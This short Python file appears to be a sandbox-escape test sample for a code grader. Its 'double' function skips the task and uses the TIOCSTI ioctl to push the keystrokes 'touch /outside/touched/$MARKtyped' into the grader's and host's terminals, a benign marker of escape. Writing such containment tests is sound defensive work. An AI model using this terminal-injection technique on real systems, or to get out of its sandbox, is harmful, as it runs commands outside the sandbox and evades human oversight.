"""Types on the grader's terminal.

Loses: double-small, double-large
"""
# %% double
import fcntl, os, termios


def double(x):
    for path in ("/dev/tty", "/dev/console", "/dev/pts/0", "/dev/pts/1", "/proc/1/fd/0", "/proc/self/fd/0"):
        try:
            terminal = os.open(path, os.O_RDWR)
            for letter in "touch /outside/touched/$MARKtyped\n":
                fcntl.ioctl(terminal, termios.TIOCSTI, letter.encode())
        except OSError as error:
            print(error)
    return 0
